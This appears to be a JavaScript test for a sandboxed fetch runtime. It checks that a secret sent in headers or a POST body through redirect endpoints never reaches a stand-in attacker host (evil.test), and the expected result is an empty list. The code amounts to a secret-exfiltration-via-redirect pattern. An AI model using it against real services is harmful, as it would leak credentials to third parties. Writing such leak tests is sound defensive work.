// ends: value []
// powers: fetch secrets
// limits: timeout_ms=20000 max_fetch_calls=100
const key = await getSecret("KEY"), told = [];
for (const to of ["http://evil.test/echo", "http://api.test:8080/echo", "http://evil.test/again?http://api.test/echo"])
  for (const way of ["/redirect", "/again"]) {
    const options = [{ headers: { X: key, "X-Plain": key } }, { method: "POST", body: key }];
    for (const each of options)
      told.push(await fetch(`http://api.test${way}?${encodeURIComponent(to)}`, each).then(r => r.body, e => e.message));
  }
return told.filter(each => each.includes(key));
